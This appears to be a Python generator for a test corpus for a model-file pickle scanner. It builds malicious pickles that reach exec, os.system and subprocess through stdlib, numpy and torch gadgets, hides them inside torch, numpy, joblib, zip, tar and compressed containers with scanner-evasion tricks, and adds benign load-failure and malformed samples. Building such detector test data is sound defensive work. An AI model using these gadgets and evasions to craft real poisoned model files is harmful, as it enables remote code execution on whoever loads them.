    gadget('profile_run', C(G('profile', 'run'), [S(py_code(st))]), ['profile.run'], 'profile.run(src)')
    st = 'gadget_bdb_run'
    gadget('bdb_run', C(G('bdb', 'Bdb.run', 4), [C(G('bdb', 'Bdb', 4), [], 4), S(py_code(st), 4)], 4),
           ['bdb.Bdb.run'], "dotted 'bdb' 'Bdb.run' called on a fresh bdb.Bdb() with src", p=4)
    st = 'gadget_trace_runctx'
    gadget('trace_runctx', C(G('trace', 'Trace.runctx', 4),
                             [C(G('trace', 'Trace', 4), [A.binint(0), A.binint(0)], 4), S(py_code(st), 4),
                              A.EMPTY_DICT], 4),
           ['trace.Trace.runctx'], "trace.Trace.runctx(Trace(0,0), src, {}) via dotted STACK_GLOBAL", p=4)
    st = 'gadget_code_runcode'
    gadget('code_runcode', C(G('code', 'InteractiveInterpreter.runcode', 4),
                             [C(G('code', 'InteractiveInterpreter', 4), [], 4), S(py_code(st), 4)], 4),
           ['code.InteractiveInterpreter.runcode'], 'code.InteractiveInterpreter.runcode(instance, src) -> exec', p=4)
    st = 'gadget_doctest_debug_script'
    gadget('doctest_debug_script', C(G('doctest', 'debug_script'), [S(py_code(st)), A.NEWTRUE]),
           ['doctest.debug_script'], 'doctest.debug_script(src, pm=True): exec(src) first, then pdb post-mortem only on error')
    st = 'gadget_pkgutil_resolve_name'
    gadget('pkgutil_resolve_name', C(C(G('pkgutil', 'resolve_name'), [S('os:system')]), [S(sh_cmd(st))]),
           ['pkgutil.resolve_name'], "pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39)",
           string_globals=['os.system'])
    st = 'gadget_pydoc_locate'
    gadget('pydoc_locate', C(C(G('pydoc', 'locate'), [S('os.system')]), [S(sh_cmd(st))]), ['pydoc.locate'],
           "pydoc.locate('os.system')(cmd)", string_globals=['os.system'])
    st = 'gadget_importlib_getattr_static'
    mod = C(G('importlib', 'import_module'), [S('os')])
    gadget('importlib_getattr_static', C(C(G('inspect', 'getattr_static'), [mod, S('system')]), [S(sh_cmd(st))]),
           ['importlib.import_module', 'inspect.getattr_static'],
           "inspect.getattr_static(importlib.import_module('os'), 'system')(cmd)")
    st = 'gadget_operator_methodcaller'
    mc = C(G('operator', 'methodcaller'), [S('system'), S(sh_cmd(st))])
    gadget('operator_methodcaller', C(mc, [C(G('importlib', 'import_module'), [S('os')])]),
           ['operator.methodcaller', 'importlib.import_module'],
           "operator.methodcaller('system', cmd)(importlib.import_module('os'))")
    st = 'gadget_operator_attrgetter'
    ag = C(G('operator', 'attrgetter'), [S('system')])
    gadget('operator_attrgetter', C(C(ag, [C(G('builtins', '__import__'), [S('os')])]), [S(sh_cmd(st))]),
           ['operator.attrgetter', 'builtins.__import__'], "operator.attrgetter('system')(__import__('os'))(cmd)")
    st = 'gadget_functools_partial'
    gadget('functools_partial', C(C(G('functools', 'partial'), [G('os', 'system'), S(sh_cmd(st))]), []),
           ['functools.partial', 'os.system'], 'functools.partial(os.system, cmd)() (the call is an empty-args REDUCE)')
    st = 'gadget_functools_partial_posix_p4'
    mal(st, A.wrap(C(C(G('functools', 'partial', 4), [G('posix', 'system', 4), S(sh_cmd(st), 4)], 4), [], 4), 4),
        ['functools.partial', 'posix.system'], 'functools.partial(posix.system, cmd)(), STACK_GLOBAL protocol 4')
    st = 'gadget_copyreg_reconstructor_popen'
    argv = A.lst([S('sh'), S('-c'), S(sh_cmd(st))], P)
    gadget('copyreg_reconstructor_popen', C(G('copy_reg', '_reconstructor'),
                                            [G('subprocess', 'Popen'), G('subprocess', 'Popen'), argv]),
           ['copyreg._reconstructor', 'subprocess.Popen'],
           "copy_reg._reconstructor(Popen, Popen, argv) -> Popen.__init__(obj, argv) (py2 name copy_reg)")
    st = 'gadget_copyreg_reconstructor_tuple_map'
    mp = C(G('builtins', 'map'), [G('os', 'system'), A.lst([S(sh_cmd(st))], P)])
    gadget('copyreg_reconstructor_tuple_map', C(G('copyreg', '_reconstructor'),
                                                [G('builtins', 'tuple'), G('builtins', 'tuple'), mp]),
           ['copyreg._reconstructor', 'os.system', 'builtins.map'],
           'copyreg._reconstructor(tuple, tuple, map(os.system,[cmd])): tuple.__new__ consumes the map')
    st = 'gadget_uuid_get_command_stdout'
    gadget('uuid_get_command_stdout', C(G('uuid', '_get_command_stdout'), [S('touch'), marker_path_expr(st, P)]),
           ['uuid._get_command_stdout'], "uuid._get_command_stdout('touch', expandvars('${PJ_MARKER_DIR}/..'))")
    st = 'gadget_osx_support_read_output'
    gadget('osx_support_read_output', C(G('_osx_support', '_read_output'), [S(sh_cmd(st))]),
           ['_osx_support._read_output'], '_osx_support._read_output(cmd) -> os.system(cmd + redirect)')
    st = 'gadget_imaplib_imap4_stream'
    gadget('imaplib_imap4_stream', C(G('imaplib', 'IMAP4_stream'), [S(sh_cmd(st))]), ['imaplib.IMAP4_stream'],
           'imaplib.IMAP4_stream(cmd) -> Popen(cmd, shell=True); then fails reading the greeting')
    st = 'gadget_logging_filehandler'
    gadget('logging_filehandler', C(G('logging', 'FileHandler'), [marker_path_expr(st, P)]),
           ['logging.FileHandler'], 'logging.FileHandler(path) creates the marker file itself (no code run)')
    st = 'gadget_io_fileio'
    gadget('io_fileio', C(G('_io', 'FileIO'), [marker_path_expr(st, P), S('w')]), ['_io.FileIO'],
           "_io.FileIO(path, 'w') creates/truncates the marker file")
    st = 'gadget_builtins_open'
    gadget('builtins_open', C(G('__builtin__', 'open'), [marker_path_expr(st, P), S('w')]), ['builtins.open'],
           "__builtin__.open(path, 'w') creates the marker file")
    st = 'gadget_marshal_loads_eval'
    import marshal
    code = marshal.dumps(compile(py_code(st), '<pj>', 'exec'))
    mal(st, A.wrap(C(G('builtins', 'eval', 3), [C(G('marshal', 'loads', 3), [A.binbytes(code)], 3)], 3), 3),
        ['marshal.loads', 'builtins.eval'], 'eval(marshal.loads(<CPython 3.11 code object>)); bytecode is version-specific')
    st = 'gadget_types_functiontype'
    code = marshal.dumps(compile(py_code(st), '<pj>', 'exec'))
    fn = C(G('types', 'FunctionType', 3), [C(G('marshal', 'loads', 3), [A.binbytes(code)], 3), A.EMPTY_DICT], 3)
    mal(st, A.wrap(C(fn, [], 3), 3), ['types.FunctionType', 'marshal.loads'],
        'types.FunctionType(marshal.loads(code), {})() (3.11 code object)')
    st = 'gadget_numpy_runstring'
    gadget('numpy_runstring', C(G('numpy.testing._private.utils', 'runstring'), [S(py_code(st)), A.EMPTY_DICT]),
           ['numpy.testing._private.utils.runstring'], 'numpy.testing._private.utils.runstring(src, {}) -> exec')
    st = 'gadget_torch_execwrapper'
    gadget('torch_execwrapper', C(G('torch.jit.unsupported_tensor_ops', 'execWrapper'),
                                  [S(py_code(st)), A.EMPTY_DICT, A.EMPTY_DICT]),
           ['torch.jit.unsupported_tensor_ops.execWrapper'], 'torch.jit.unsupported_tensor_ops.execWrapper(src, {}, {}) -> exec')
    st = 'gadget_torch_collect_env_run'
    gadget('torch_collect_env_run', C(G('torch.utils.collect_env', 'run'), [S(sh_cmd(st))]),
           ['torch.utils.collect_env.run'], 'torch.utils.collect_env.run(cmd) -> Popen(cmd, shell=True)')
    st = 'gadget_pydoc_pipepager'
    gadget('pydoc_pipepager', C(G('pydoc', 'pipepager'), [S('x'), S(sh_cmd(st))]), ['pydoc.pipepager'],
           "pydoc.pipepager('x', cmd) -> Popen(cmd, shell=True)")
    st = 'gadget_multiprocessing_spawnv_passfds'
    gadget('multiprocessing_spawnv_passfds',
           C(G('multiprocessing.util', 'spawnv_passfds'),
             [A.binbytes(b'/bin/sh'), A.lst([S('sh'), S('-c'), S(sh_cmd(st))], P), A.EMPTY_TUPLE], 3),
           ['multiprocessing.util.spawnv_passfds'], "multiprocessing.util.spawnv_passfds(b'/bin/sh', argv, ())", p=3)
    st = 'gadget_distutils_write_file'
    gadget('distutils_write_file', C(G('distutils.file_util', 'write_file'),
                                     [marker_path_expr(st, P), A.lst([S('x')], P)]),
           ['distutils.file_util.write_file'], 'distutils.file_util.write_file(path, [..]) writes the marker')
    st = 'gadget_shutil_copyfile'
    gadget('shutil_copyfile', C(G('shutil', 'copyfile'), [S('/dev/null'), marker_path_expr(st, P)]),
           ['shutil.copyfile'], 'shutil.copyfile(/dev/null, marker) creates a file')


def gen_containers(B):
    """Payloads inside model containers and compression wrappers."""
    zipm = zip_members(B['torch_zip'])  # [(name, data)] of a real torch.save zip
    real_pkl = dict(zipm)['archive/data.pkl']

    def prefixed(st, pkl, p=2):
        """Payload REDUCE + POP spliced in front of a real protocol-2 pickle body."""
        assert pkl[:2] == b'\x80\x02'
        return A.proto(2) + os_system(st, 2) + A.POP + pkl[2:]

    def torch_zip(replace=None, extra=(), drop=()):
        ents = []
        for n, d in zipm:
            if n in drop:
                continue
            ents.append({'name': n, 'data': replace.get(n, d) if replace else d})
        ents += list(extra)
        return zip_build(ents)

    st = 'torch_zip_payload_in_data_pkl'
    mal(st, torch_zip({'archive/data.pkl': prefixed(st, real_pkl)}), ['os.system'],
        'real state_dict zip; archive/data.pkl = os.system REDUCE+POP, then the original pickle (loads normally)',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl'])
    st = 'torch_zip_payload_in_extra_pkl'
    mal(st, torch_zip(extra=[{'name': 'archive/extra.pkl', 'data': A.wrap(os_system(st, 2), 2)}]), ['os.system'],
        'benign data.pkl plus a second member archive/extra.pkl holding the payload (torch.load never reads it)',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl', 'archive/extra.pkl'],
        expect_executes=False,
        verdict_note='torch.load does not execute extra.pkl; a scanner must still flag every *.pkl member')
    st = 'torch_zip_payload_in_constants_pkl'
    mal(st, torch_zip(extra=[{'name': 'archive/constants.pkl', 'data': A.wrap(os_system(st, 2), 2)}]), ['os.system'],
        'state_dict zip plus archive/constants.pkl with the payload: torch.load sees constants.pkl and '
        'dispatches to torch.jit.load', fmt='torch-zip', loader='torch.load', ext='.pt',
        streams=['archive/data.pkl', 'archive/constants.pkl'], expect_executes=False,
        verdict_note='torch 1.13: the TorchScript unpickler resolves GLOBAL as a type name '
                     "(Unknown type name 'os.system'); nothing runs, but a scanner must flag it")
    b = io.BytesIO()
    import torch
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), b)
    ts = zip_members(b.getvalue())
    st = 'torchscript_payload_in_constants_pkl'
    mal(st, zip_build([{'name': n, 'data': (A.wrap(os_system(st, 2), 2) if n.endswith('constants.pkl') else d)}
                       for n, d in ts]), ['os.system'],
        'TorchScript archive whose constants.pkl is an os.system pickle (TorchScript C++ unpickler has no GLOBAL '
        'import)', fmt='torchscript', loader='torch.jit.load', ext='.pt',
        streams=['archive/data.pkl', 'archive/constants.pkl'], expect_executes=False,
        verdict_note="torch 1.13 jit.load: Unknown type name 'os.system'; not executed")

    # zip evasions
    mal_pkl = lambda st: prefixed(st, real_pkl)  # noqa: E731
    st = 'zip_duplicate_malicious_first'
    ents = [{'name': 'archive/data.pkl', 'data': mal_pkl(st)}] + [{'name': n, 'data': d} for n, d in zipm]
    mal(st, zip_build(ents), ['os.system'], 'two archive/data.pkl members: malicious first, benign second',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl', 'archive/data.pkl'])
    st = 'zip_duplicate_benign_first'
    ents = [{'name': n, 'data': d} for n, d in zipm] + [{'name': 'archive/data.pkl', 'data': mal_pkl(st)}]
    mal(st, zip_build(ents), ['os.system'], 'two archive/data.pkl members: benign first, malicious last',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl', 'archive/data.pkl'],
        expect_executes=False,
        verdict_note='torch 1.13 (miniz) loads the first of duplicate names, so the later copy does not run; '
                     'Python zipfile returns the last one')
    st = 'zip_case_mangled_data_pkl'
    p0 = A.global_('os', 'system') + A.MARK + A.string0(sh_cmd(st)) + A.TUPLE + A.REDUCE + A.POP + \
        A.MARK + A.DICT + A.STOP
    ents = [{'name': 'archive/DATA.PKL', 'data': p0}] + [{'name': n, 'data': d} for n, d in zipm
                                                       if n != 'archive/data.pkl']
    mal(st, zip_build(ents), ['os.system'],
        "member named archive/DATA.PKL (no data.pkl), protocol-0 payload without a \\x80 header",
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/DATA.PKL'])
    st = 'zip_bad_crc'
    ents = [{'name': n, 'data': (mal_pkl(st) if n == 'archive/data.pkl' else d)} for n, d in zipm]
    ents[0]['crc'] = 0xdeadbeef
    mal(st, zip_build(ents), ['os.system'], 'payload data.pkl with a wrong CRC-32 in both headers (Python zipfile rejects)',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl'])
    st = 'zip_encrypted_flag'
    ents = [{'name': n, 'data': (mal_pkl(st) if n == 'archive/data.pkl' else d)} for n, d in zipm]
    ents[0]['flags'] = 0x1
    mal(st, zip_build(ents), ['os.system'],
        'general-purpose flag bit 0 (encrypted) set on a plaintext payload data.pkl (Python zipfile wants a password)',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl'], expect_executes=False,
        verdict_note='torch 1.13 refuses it (unsupported encryption); other loaders/versions may not')
    st = 'zip_local_central_name_mismatch'
    ents = [{'name': n, 'data': (mal_pkl(st) if n == 'archive/data.pkl' else d)} for n, d in zipm]
    ents[0]['lname'] = 'archive/datap.kl'
    mal(st, zip_build(ents), ['os.system'],
        'central directory says archive/data.pkl, local header says archive/datap.kl (CVE-2025-1944)',
        fmt='torch-zip', loader='torch.load', ext='.pt', streams=['archive/data.pkl'])
    st = 'zip_member_data_txt'
    mal(st, zip_build([{'name': 'model/data.txt', 'data': A.wrap(os_system(st, 4), 4)},
                       {'name': 'model/README', 'data': b'weights\n'}]), ['os.system'],
        'generic zip with a pickle stored as model/data.txt (routing by extension misses it)',
        fmt='zip', loader='zipfile+pickle.load:model/data.txt', ext='.zip', streams=['model/data.txt'])

    # legacy torch
    pk, raw = split_pickles(B['torch_legacy'], 5)
    st = 'torch_legacy_payload_in_object_pickle'
    mal(st, pk[0] + pk[1] + pk[2] + prefixed(st, pk[3]) + pk[4] + raw, ['os.system'],
        'legacy torch file; payload spliced into the 4th pickle (the object); loads normally afterwards',
        fmt='torch-legacy', loader='torch.load', ext='.pt', streams=['pickle#1', 'pickle#2', 'pickle#3', 'pickle#4', 'pickle#5'])
    st = 'torch_legacy_payload_in_keys_pickle'
    mal(st, pk[0] + pk[1] + pk[2] + pk[3] + prefixed(st, pk[4]) + raw, ['os.system'],
        'legacy torch file; payload in the 5th pickle (storage key list)', fmt='torch-legacy', loader='torch.load',
        ext='.pt', streams=['pickle#1', 'pickle#2', 'pickle#3', 'pickle#4', 'pickle#5'])
    st = 'torch_legacy_magic_by_eval'
    magic = A.wrap(A.call(A.global_('__builtin__', 'eval'), [A.s('0x1950A86A20F9469CFC6C', 2)], 2), 2)
    mal(st, magic + pk[1] + pk[2] + prefixed(st, pk[3]) + pk[4] + raw, ['builtins.eval', 'os.system'],
        'legacy torch whose magic number is computed by eval() (GHSA-97f8-7cmv-76j2); payload in 4th pickle',
        fmt='torch-legacy', loader='torch.load', ext='.pt')
    st = 'plain_pickle_named_pt'
    mal(st, A.wrap(os_system(st, 2), 2), ['os.system'],
        'plain malicious pickle with a .pt name: torch.load runs it while reading the "magic number"',
        loader='torch.load', ext='.pt')
    st = 'torch_tar_payload_in_pickle_member'
    tar = tar_build([('sys_info', pickle.dumps({'protocol_version': 1001, 'little_endian': True}, protocol=2)),
                     ('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                     ('tensors', pickle.dumps(0, protocol=2)),
                     ('pickle', A.wrap(os_system(st, 2), 2))])
    mal(st, tar, ['os.system'], 'oldest torch .tar layout (sys_info/storages/tensors/pickle); payload in "pickle"',
        fmt='torch-tar', loader='torch.load', ext='.pt', streams=['storages', 'tensors', 'pickle'])
    st = 'tar_with_malicious_pickle'
    mal(st, tar_build([('model/config.json', b'{"n": 1}\n'), ('model/model.pkl', A.wrap(os_system(st, 4), 4))]),
        ['os.system'], 'plain tar holding model/model.pkl with an os.system payload',
        fmt='tar', loader='tarfile+pickle.load:model/model.pkl', ext='.tar', streams=['model/model.pkl'])

    # numpy
    st = 'npy_object_array_payload'
    mal(st, npy_header('|O', (2,)) + A.wrap(os_system(st, 3), 3), ['os.system'],
        '.npy with descr |O whose pickle is an os.system call', fmt='npy', loader='numpy.load', ext='.npy')
    st = 'npz_object_member_payload'
    good = io.BytesIO()
    import numpy as np
    np.lib.format.write_array(good, np.arange(4, dtype='<i8'))
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, 'w') as z:
        z.writestr(zipfile.ZipInfo('weights.npy', (1980, 1, 1, 0, 0, 0)), good.getvalue())
        z.writestr(zipfile.ZipInfo('meta.npy', (1980, 1, 1, 0, 0, 0)), npy_header('|O', (1,)) + A.wrap(os_system(st, 3), 3))
    mal(st, zb.getvalue(), ['os.system'], '.npz whose meta.npy member is an object array with a payload pickle',
        fmt='npz', loader='numpy.load', ext='.npz', streams=['meta.npy'])

    # joblib: payload after inline raw array bytes (real joblib.dump)
    import joblib
    tmp = GEN / '_tmp_joblib'
    tmp.mkdir(exist_ok=True)
    for st, comp, fmt, ext in [('joblib_payload_after_array', 0, 'joblib', '.joblib'),
                               ('joblib_zlib_payload_after_array', 3, 'joblib-zlib', '.joblib')]:
        obj = {'weights': np.arange(64, dtype='<f8'), 'config': Reduce(os.system, (sh_cmd(st),))}
        fn = tmp / 'x.joblib'
        joblib.dump(obj, fn, compress=comp)
        mal(st, fn.read_bytes(), ['posix.system'],
            'joblib.dump of {weights: ndarray, config: <__reduce__ -> os.system>}: payload follows the raw array bytes '
            '(NumpyArrayWrapper)' + (', zlib compressed' if comp else ''), fmt=fmt, loader='joblib.load', ext=ext)
    shutil.rmtree(tmp)

    # compression wrappers around a protocol-4 payload
    for st, fmt, comp in [('gzip_wrapped', 'gzip', gz), ('bz2_wrapped', 'bz2', lambda d: bz2.compress(d, 9)),
                          ('xz_wrapped', 'xz', lambda d: lzma.compress(d, format=lzma.FORMAT_XZ)),
                          ('zlib_wrapped', 'zlib', lambda d: zlib.compress(d, 6))]:
        mal(st, comp(A.wrap(os_system(st, 4), 4)), ['os.system'], '%s-compressed os.system pickle' % fmt,
            fmt=fmt, loader='joblib.load', ext='.pkl.' + {'gzip': 'gz', 'zlib': 'z'}.get(fmt, fmt))
    st = 'sevenzip_payload_then_garbage'
    inner = A.proto(2) + os_system(st, 2) + b'\xff\xfe\xfdbroken'
    mal(st, sevenzip_build('model.pkl', inner), ['os.system'],
        '7z archive (Copy method, hand-built) holding model.pkl: os.system REDUCE then a broken stream '
        '(nullifAI style)', fmt='7z', loader='7z-cli+pickle.loads:model.pkl', ext='.7z', streams=['model.pkl'])
    zstd = shutil.which('zstd')
    if zstd:
        st = 'zstd_wrapped'
        d = subprocess.run([zstd, '-q', '-19', '--no-check', '-c'], input=A.wrap(os_system(st, 4), 4),
                           stdout=subprocess.PIPE, check=True).stdout
        mal(st, d, ['os.system'], 'zstd-compressed os.system pickle (made with the zstd CLI)', fmt='zstd',
            loader='zstd-cli+pickle.loads', ext='.pkl.zst')


# ---------------------------------------------------------------------------
# load-failure samples (benign content that will not load as-is)

class MyModel:
    """Defined in __main__ on purpose: pickles reference __main__.MyModel."""

    def __init__(self):
        self.weights = [0.1, 0.2]
        self.name = 'demo'


def lf(stem, data, verdict, fmt, loader, description, expected_error, globals_=(), ext='.pkl', **extra):
    return emit('loadfail/%s%s' % (stem, ext), data, 'loadfail', verdict, fmt, loader, description, globals_,
                expected_error=expected_error, **extra)


def gen_loadfail(B):
    import numpy as np
    import torch
    lf('builtin_set_proto3', A.wrap(A.call(A.global_('__builtin__', 'set'), [A.lst([A.binint(1), A.binint(2)], 3)], 3), 3),
       'suspicious', 'pickle', 'pickle.load', "GLOBAL '__builtin__ set' in a PROTO 3 stream: no _compat_pickle mapping",
       {'type': 'ModuleNotFoundError', 'module': '__builtin__'}, ['__builtin__.set'])
    body = A.call(A.g('copy_reg', '_reconstructor', 4), [A.g('builtins', 'object', 4), A.g('builtins', 'object', 4), A.NONE], 4)
    lf('copy_reg_reconstructor_proto4', A.wrap(body, 4), 'suspicious', 'pickle', 'pickle.load',
       "STACK_GLOBAL 'copy_reg' '_reconstructor' under PROTO 4", {'type': 'ModuleNotFoundError', 'module': 'copy_reg'},
       ['copy_reg._reconstructor'])
    body = A.dct([(A.binstring(b'name'), A.binstring('caf\xe9 cr\xe8me'.encode('latin1'))),
                  (A.binstring(b'data'), A.binstring(bytes(range(0x80, 0x90))))], 2)
    lf('py2_latin1_binstring_p2', A.wrap(body, 2), 'safe', 'pickle', 'pickle.load',
       "Python-2 style protocol-2 pickle with non-ASCII SHORT_BINSTRING values: needs encoding='latin1'",
       {'type': 'UnicodeDecodeError', 'codec': 'ascii', 'fix': "encoding='latin1'"})
    m = MyModel()
    lf('main_class_p4', pickle.dumps(m, protocol=4), 'suspicious', 'pickle', 'pickle.load',
       'instance of a class defined in the writer script (__main__.MyModel)',
       {'type': 'AttributeError', 'module': '__main__', 'name': 'MyModel'}, ['__main__.MyModel'])
    lf('main_class_torch', torch_bytes({'model': m, 'epoch': 3}), 'suspicious', 'torch-zip', 'torch.load',
       'torch.save of a dict holding a __main__.MyModel instance',
       {'type': 'AttributeError', 'module': '__main__', 'name': 'MyModel'}, ['__main__.MyModel'], ext='.pt',
       streams=['archive/data.pkl'])
    d = B['ndarray_p2'].replace(b'cnumpy.core.multiarray\n', b'cnumpy._core.multiarray\n')
    assert d != B['ndarray_p2']
    lf('numpy2_core_path_p2', d, 'safe', 'pickle', 'pickle.load',
       'ndarray pickle with numpy>=2 module paths (numpy._core.multiarray._reconstruct), hand-patched',
       {'type': 'ModuleNotFoundError', 'module': 'numpy._core'})
    from sklearn.ensemble import RandomForestClassifier
    d = pickle.dumps(B['sk_rf'], protocol=2)
    d2 = d.replace(b'csklearn.ensemble._forest\nRandomForestClassifier\n',
                   b'csklearn.ensemble.forest\nRandomForestClassifier\n')
    d2 = d2.replace(b'csklearn.tree._classes\n', b'csklearn.tree.tree\n')
    assert d2 != d
    lf('sklearn_old_module_path_p2', d2, 'safe', 'pickle', 'pickle.load',
       'RandomForestClassifier pickle with pre-0.22 paths sklearn.ensemble.forest / sklearn.tree.tree (hand-patched)',
       {'type': 'ModuleNotFoundError', 'module': 'sklearn.ensemble.forest'})
    d = pickle.dumps(B['sk_lr'], protocol=2)
    import sklearn
    v = sklearn.__version__.encode()
    old = b'X' + struct.pack('<I', len(v)) + v
    assert old in d
    d2 = d.replace(old, A.binunicode('0.24.2'))
    lf('sklearn_version_mismatch_p2', d2, 'safe', 'pickle', 'pickle.load',
       "LogisticRegression pickle whose _sklearn_version says 0.24.2 (loads with a version warning)",
       {'type': 'UserWarning', 'warning': True, 'name': 'LogisticRegression', 'pickled_version': '0.24.2'},
       expect_loads=True)
    # CUDA-located storages
    zipm = zip_members(B['torch_zip'])
    cpu = A.binunicode('cpu')
    ents = [{'name': n, 'data': d.replace(cpu, A.binunicode('cuda:0')) if n.endswith('data.pkl') else d} for n, d in zipm]
    assert ents[0]['data'] != zipm[0][1]
    lf('torch_zip_cuda_storage', zip_build(ents), 'safe', 'torch-zip', 'torch.load',
       "state_dict zip whose storage persistent ids say location 'cuda:0' (hand-patched)",
       {'type': 'RuntimeError', 'message': 'Attempting to deserialize object on a CUDA device'}, ext='.pt',
       streams=['archive/data.pkl'])
    leg = B['torch_legacy']
    assert cpu in leg
    lf('torch_legacy_cuda_storage', leg.replace(cpu, A.binunicode('cuda:0')), 'safe', 'torch-legacy', 'torch.load',
       "legacy torch file with storages located on 'cuda:0'",
       {'type': 'RuntimeError', 'message': 'Attempting to deserialize object on a CUDA device'}, ext='.pt')
    body = A.call(A.g('pathlib', 'WindowsPath', 4), [A.sbu('C:\\'), A.sbu('models'), A.sbu('export.pkl')], 4)
    lf('windows_path_p4', A.wrap(A.dct([(A.sbu('path'), body)], 4), 4), 'safe', 'pickle', 'pickle.load',
       'dict holding pathlib.WindowsPath (as pickled on Windows)',
       {'type': 'NotImplementedError', 'name': 'WindowsPath', 'module': 'pathlib'})
    arr = np.arange(16, dtype='<f8')
    bufs = []
    d = pickle.dumps(arr, protocol=5, buffer_callback=lambda b: bufs.append(b) and False)
    assert b'\x97' in d
    lf('out_of_band_buffer_p5', d, 'safe', 'pickle', 'pickle.load',
       'protocol-5 ndarray pickled with buffer_callback: NEXT_BUFFER, data not in the file',
       {'type': 'UnpicklingError', 'message': 'pickle stream refers to out-of-band data but no *buffers* argument was given'})
    lf('torch_data_pkl_extracted', dict(zipm)['archive/data.pkl'], 'safe', 'pickle', 'pickle.load',
       'archive/data.pkl extracted from a torch zip: BINPERSID storages, loaded with plain pickle.load',
       {'type': 'UnpicklingError', 'message': 'persistent_load'})
    lf('torch_zip_via_pickle_load', B['torch_zip'], 'safe', 'torch-zip', 'pickle.load',
       'whole torch zip given to pickle.load (PK = PERSID opcode)', {'type': 'UnpicklingError', 'message': 'persistent'},
       ext='.pt')
    lf('git_lfs_pointer', b'version https://git-lfs.github.com/spec/v1\n'
       b'oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 435821\n',
       'safe', 'lfs-pointer', 'torch.load', 'Git LFS pointer file saved as the model',
       {'type': 'UnpicklingError', 'message': "invalid load key, 'v'."}, ext='.pt')
    lf('html_error_page', b'<!DOCTYPE html>\n<html><head><title>Google Drive - Quota exceeded</title></head>\n'
       b'<body><p>Too many users have viewed or downloaded this file recently.</p></body></html>\n',
       'safe', 'html', 'torch.load', 'HTML quota/error page saved as the model',
       {'type': 'UnpicklingError', 'message': "invalid load key, '<'."}, ext='.pth')
    lf('empty', b'', 'safe', 'empty', 'pickle.load', 'zero-byte file', {'type': 'EOFError', 'message': 'Ran out of input'})
    tz = B['torch_zip']
    cd = tz.rfind(b'PK\x01\x02')
    first_cd = tz.find(b'PK\x01\x02')
    lf('truncated_torch_zip', tz[:first_cd], 'safe', 'torch-zip', 'torch.load',
       'torch zip cut before the central directory (no EOCD)',
       {'type': 'RuntimeError', 'message': 'failed finding central directory'}, ext='.pt')
    lf('truncated_torch_legacy', leg[:-20], 'safe', 'torch-legacy', 'torch.load',
       'legacy torch file missing the last 20 bytes of raw storage data',
       {'type': 'RuntimeError', 'message': 'unexpected EOF'}, ext='.pt')
    hdr = json.dumps({'weight': {'dtype': 'F32', 'shape': [2, 2], 'data_offsets': [0, 16]},
                      '__metadata__': {'format': 'pt'}}, separators=(',', ':')).encode()
    hdr += b' ' * ((8 - len(hdr) % 8) % 8)
    lf('model_safetensors', struct.pack('<Q', len(hdr)) + hdr + struct.pack('<4f', 1, 2, 3, 4), 'safe',
       'safetensors', 'torch.load', 'hand-built safetensors file (u64 header length, JSON, data) given to torch.load',
       {'type': 'UnpicklingError', 'message': 'invalid load key'}, ext='.safetensors')

    def gstr(x):
        return struct.pack('<Q', len(x)) + x
    gguf = b'GGUF' + struct.pack('<I', 3) + struct.pack('<QQ', 0, 1) + gstr(b'general.architecture') + \
        struct.pack('<I', 8) + gstr(b'llama')
    gguf += b'\0' * ((32 - len(gguf) % 32) % 32)
    lf('model_gguf', gguf, 'safe', 'gguf', 'pickle.load', 'minimal GGUF v3 header (0 tensors, 1 metadata KV)',
       {'type': 'UnpicklingError', 'message': 'invalid load key'}, ext='.gguf')
    lf('joblib_zlib_via_pickle_load', (CORPUS / 'benign/sklearn_pipeline_joblib_zlib.joblib').read_bytes(), 'safe',
       'joblib-zlib', 'pickle.load', 'joblib compress=3 file opened with plain pickle.load',
       {'type': 'UnpicklingError', 'message': "invalid load key, 'x'."}, ext='.joblib')
    lf('ext_opcode_unregistered', A.wrap(b'\x82\x01', 2), 'suspicious', 'pickle', 'pickle.load',
       'EXT1 code 1 (copyreg extension registry is empty by default)',
       {'type': 'ValueError', 'message': 'unregistered extension code 1'})


# ---------------------------------------------------------------------------
# malformed samples

def mf(relstem, data, description, globals_=(), ext='.pkl', verdict='suspicious', **extra):
    return emit('malformed/%s%s' % (relstem, ext), data, 'malformed', verdict, 'pickle', 'pickle.load',
                description, globals_, **extra)


def restricted_load_fails(data):
    """Decide in a child process (restricted find_class) whether CPython rejects data."""
    code = ('import pickle,sys,io,collections\n'
            'class U(pickle.Unpickler):\n'
            '    def find_class(self, m, n):\n'
            '        if (m, n) in (("collections", "OrderedDict"), ("builtins", "set"), ("__builtin__", "set"),\n'
            '                      ("_codecs", "encode")):\n'
            '            return super().find_class(m, n)\n'
            '        raise pickle.UnpicklingError("blocked %s.%s" % (m, n))\n'
            'import resource\n'
            'resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n'
            'try:\n'
            '    U(io.BytesIO(sys.stdin.buffer.read())).load()\n'
            'except BaseException:\n'
            '    sys.exit(3)\n')
    r = subprocess.run([sys.executable, '-c', code], input=data, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=20)
    return r.returncode == 3


def gen_malformed(B):
    # truncations at every opcode boundary
    for key in ('small_p0', 'small_p2', 'small_p4'):
        d = B[key]
        starts = [pos for _, _, pos in pickletools.genops(d)]
        for pos in starts[1:]:
            mf('trunc/%s_cut%03d' % (key, pos), d[:pos],
               '%s (a %d-byte dict pickle) cut at opcode boundary %d' % (key, len(d), pos))
        # and a few cuts inside an argument
        for pos in sorted({starts[k] + 2 for k in range(1, len(starts) - 1, 4)}):
            if pos not in starts and pos < len(d):
                mf('trunc/%s_mid%03d' % (key, pos), d[:pos], '%s cut inside an opcode argument at %d' % (key, pos))

    # structural errors
